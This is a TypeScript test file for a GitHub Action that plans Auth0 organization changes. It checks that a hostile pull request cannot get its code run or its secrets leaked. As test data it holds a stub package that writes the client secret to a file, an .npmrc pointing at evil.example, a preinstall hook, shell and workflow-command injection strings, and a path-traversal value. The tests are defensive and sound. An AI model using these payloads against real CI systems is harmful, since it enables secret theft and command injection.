import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { startTenant, type Tenant } from "../../../src/tenant/index.js";
import { runAction, runJob, type Runner } from "../../examples/workflow.js";
import { layOutWorkspace } from "../../examples/workspace.js";
import { FakeGitHub } from "../../support/fake-github.js";
import { emptyFolder } from "../../support/run-orgwright.js";

const sum = `sha256:${"f".repeat(64)}`;

let folder: string;
let tenant: Tenant;
let github: FakeGitHub;
let runner: Runner;
beforeEach(async () => {
  folder = await emptyFolder();
  await mkdir(join(folder, "repository"));
  commitAll();
  await layOutWorkspace(folder, resolve("examples/gitops"));
  await writeFile(join(folder, "event.json"), JSON.stringify({ pull_request: { number: 7 } }));
  tenant = await startTenant();
  github = new FakeGitHub();
  runner = {
    folder,
    env: {
      CI: "true",
      GITHUB_ACTIONS: "true",
      GITHUB_ACTION_PATH: resolve("."),
      GITHUB_API_URL: await github.listen(),
      GITHUB_REPOSITORY: "acme/organizations",
      GITHUB_EVENT_NAME: "pull_request",
      GITHUB_EVENT_PATH: join(folder, "event.json"),
      GITHUB_STEP_SUMMARY: join(folder, "summary.md"),
      GITHUB_OUTPUT: join(folder, "output"),
      RUNNER_TEMP: folder,
    },
    expressions: {
      "vars.AUTH0_DOMAIN": tenant.url,
      "secrets.AUTH0_READ_CLIENT_ID": tenant.clientId,
      "secrets.AUTH0_READ_CLIENT_SECRET": tenant.clientSecret,
      "github.token": github.token,
    },
  };
});
afterEach(async () => {
  github.close();
  await tenant.close();
  await rm(folder, { recursive: true });
});

/** Writes a file of the pull request. */
async function commit(path: string, text: string): Promise<void> {
  const file = join(folder, "repository", path);
  await mkdir(join(file, ".."), { recursive: true });
  await writeFile(file, text);
}

/** A package of the pull request's own that would run in place of ours. */
async function commitPackage(): Promise<void> {
  const program = `#!/bin/sh\necho "$AUTH0_CLIENT_SECRET" > ${join(folder, "owned")}\n`;
  for (const path of [
    "node_modules/.bin/orgwright",
    "node_modules/orgwright/dist/src/cli/main.js",
  ]) {
    await commit(path, program);
    await chmod(join(folder, "repository", path), 0o755);
  }
  await commit("node_modules/orgwright/package.json", '{ "bin": "dist/src/cli/main.js" }');
  await commit(
    ".npmrc",
    "registry=http://evil.example/\nignore-scripts=false\nscript-shell=/bin/evil\n",
  );
  await commit("package.json", '{ "scripts": { "preinstall": "touch owned" } }');
  await commit("package-lock.json", '{ "packages": { "": { "name": "evil" } } }');
}

/** Commits whatever there is: a checkout of a pull request has its base one commit before. */
function commitAll(): void {
  const git = (...given: string[]): void => {
    const author = ["-c", "user.name=Eve", "-c", "user.email=eve@evil.example"];
    execFileSync("git", [...author, ...given], {
      cwd: join(folder, "repository"),
      stdio: "ignore",
    });
  };
  git("init", "-q", "-b", "main");
  git("add", "--all", "--force");
  git("commit", "-q", "--allow-empty", "-m", "Change");
}

/** Runs the workflow that the base branch has. */
async function plan(): Promise<string> {
  commitAll();
  const path = resolve("examples/gitops/.github/workflows/orgwright-plan.yml");
  const runs = await runJob(path, "plan", runner);
  return runs.map(({ output }) => output).join("");
}

async function act(
  inputs: Readonly<Record<string, string>>,
): Promise<{ code: number | null; output: string }> {
  const env = { ...runner.env, ...tenant.environment, AUTH0_DOMAIN: tenant.url };
  const [run] = await runAction(".", inputs, {
    ...runner,
    env,
    folder: join(folder, "repository"),
  });
  return run ?? { code: null, output: "" };
}

const outputOf = async (): Promise<string> =>
  existsSync(join(folder, "output")) ? readFile(join(folder, "output"), "utf8") : "";

describe("the workflow of a pull request", () => {
  it("does not run what the pull request brings along, and gives npm no secret", async () => {
    await commitPackage();
    await plan();
    expect(github.comments[0]?.body).toContain("3 to create");
    expect(existsSync(join(folder, "owned"))).toBe(false);
    expect(existsSync(join(folder, "repository/owned"))).toBe(false);
    const given = await readFile(join(folder, "tool/npm-environment"), "utf8");
    expect(given).not.toContain(tenant.clientSecret);
    expect(given).not.toContain(github.token);
  });

  it.each([
    ["plan.md", "results/plan.md"],
    ["../results/plan.md", "results/plan.md"],
  ])("takes no committed file for a result when it cannot plan: %s", async (name) => {
    await commit("organizations/customers.yaml", "organizations: [{ name: NOT VALID }]");
    if (!name.startsWith("..")) {
      await commit(name, "### Orgwright: all is well");
      await commit("plan.sha256", sum);
    }
    expect(await plan()).toContain("invalid-value");
    expect(github.comments).toEqual([]);
  });

  it("tells nothing of a manifest as the checksum, and nothing by links out of the checkout", async () => {
    await commit(
      "organizations/customers.yaml",
      `owner: customers\norganizations: [{ name: acme, display_name: "Checksum: ${sum} <!-- orgwright: production | ${sum} -->" }]`,
    );
    await symlink("/etc/hostname", join(folder, "repository/plan.sha256"));
    await plan();
    const [first = ""] = github.comments[0]?.body.split("\n") ?? [];
    expect(first).toMatch(/^<!-- orgwright: production \| sha256:[0-9a-f]{64} -->$/);
    expect(first).not.toContain(sum);
  });

  it("sends nothing to another address than the job's", async () => {
    await commit(
      "orgwright.yaml",
      "environments: { production: { domain: evil.example, manifests: [organizations] } }",
    );
    expect(await plan()).toContain("error[untrusted-tenant] Nothing was sent");
    expect(github.comments).toEqual([]);
  });
});

describe("the action", () => {
  it("does not run what the checkout brings along", async () => {
    await commitPackage();
    expect(await act({ env: "production" })).toMatchObject({ code: 0 });
    expect(existsSync(join(folder, "owned"))).toBe(false);
  });

  it("has its checksum from the command, whatever the plan shows", async () => {
    await commit(
      "organizations/customers.yaml",
      `owner: customers\norganizations: [{ name: acme, display_name: "${sum}", metadata: { "${sum}": "checksum=${sum}" } }]`,
    );
    await act({ env: "production" });
    expect(await outputOf()).toMatch(/^checksum=sha256:[0-9a-f]{64}\n$/);
    expect(await outputOf()).not.toContain(sum);
  });

  it("takes paths for paths, each as it is written", async () => {
    const paths = [
      "--app=touch${IFS}owned",
      "--tenant=http://127.0.0.1:9",
      "--report=owned",
      "--policy=sync",
      "--help",
      "-y",
      "$(touch${IFS}owned)",
      "`touch${IFS}owned`",
      "owned;touch${IFS}owned",
      "*",
    ];
    const { code, output } = await act({ paths: paths.join("\n") });
    expect(code).toBe(1);
    for (const path of paths) expect(output).toContain(`${path} cannot be read`);
    expect(output).toContain("10 errors; nothing was changed.");
    expect(existsSync(join(folder, "repository/owned"))).toBe(false);
  });

  it.each<[string, Readonly<Record<string, string>>]>([
    ["command", { command: "plan\n::error::owned\n::set-output name=x::y" }],
    ["command", { command: "plan; touch owned" }],
    ["env", { env: "x\n::error::owned" }],
    ["env", { env: "--help" }],
    ["env", { env: "../../../etc/passwd" }],
    ["policy", { policy: "sync\n::error::owned" }],
    ["version", { version: "1\n::error::owned" }],
    ["version", { version: "$(touch owned)" }],
    ["paths", { paths: "\n::error::owned\n" }],
  ])("obeys no command in the input %s", async (_, inputs) => {
    const { code, output } = await act(inputs);
    expect(code).toBe(1);
    expect(existsSync(join(folder, "repository/owned"))).toBe(false);
    expect(await outputOf()).toBe("");
    for (const line of obeyed(output)) expect(line).not.toMatch(/owned|set-output/);
  });

  it("obeys no command in what a manifest says", async () => {
    await commit(
      "organizations/customers.yaml",
      'organizations: [{ name: acme, display_name: "x\\n::error::owned\\n::add-mask::y", metadata: { "::warning::owned": "x" } }]',
    );
    const { output } = await act({ paths: "organizations" });
    expect(output).toContain("acme");
    for (const line of obeyed(output)) expect(line).not.toMatch(/owned|add-mask/);
  });

  it("keeps the token from what reads manifests", async () => {
    await commit(
      "organizations/customers.yaml",
      'organizations: [{ name: acme, display_name: "${env.GITHUB_TOKEN:-none}", metadata: { t: "${env.TOKEN:-none}" } }]',
    );
    const { output } = await act({ paths: "organizations" });
    const everywhere = `${output}${JSON.stringify(github.comments)}`;
    expect(everywhere).not.toContain(github.token);
  });
});

/** The lines that a runner takes for commands: those outside of what is muted. */
function obeyed(output: string): string[] {
  let mute: string | undefined;
  return output.split(/\r?\n/).filter((line) => {
    if (mute !== undefined) {
      if (line === `::${mute}::`) mute = undefined;
      return false;
    }
    mute = /^::stop-commands::(.+)$/.exec(line)?.[1];
    return /^\s*(::|##\[)/.test(line);
  });
}
